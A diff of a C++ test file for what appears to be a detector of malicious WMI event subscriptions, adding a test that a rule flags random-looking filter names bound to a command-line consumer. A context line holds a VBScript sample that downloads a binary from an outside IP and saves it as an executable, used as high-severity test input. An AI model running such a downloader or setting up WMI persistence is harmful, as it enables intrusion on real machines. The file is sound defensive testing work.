@@ -604,3 +604,18 @@ TEST_CASE("network use is graded: fetching or uploading is high, a request mediu
     CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", \"http://203.0.113.7/a.bin\", False\nh.Send\n"
                       "Set s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"C:\\ProgramData\\a.exe\", 2") == severity::high);
 }
+
+TEST_CASE("names a program made: GUIDs, hex strings, random mixes of letters and digits") {
+    for (const char* name : {"{3F2504E0-4F89-11D3-9A0C-0305E82C3301}", "3f2504e04f8911d39a0c", "a8Xk29Qz7"}) {
+        CAPTURE(name);
+        mock_collector m;
+        m.filter(name, boot_query).command_line_consumer("C", "x.exe").bind(name, "C");
+        CHECK(has(fired(m)[0], "WMISUB-STR-016"));
+    }
+    for (const char* name : {"Win32Updater2", "Contoso Inventory", "BVTFilter", "Filter01"}) {
+        CAPTURE(name);
+        mock_collector m;
+        m.filter(name, boot_query).command_line_consumer("C", "x.exe").bind(name, "C");
+        CHECK_FALSE(has(fired(m)[0], "WMISUB-STR-016"));
+    }
+}
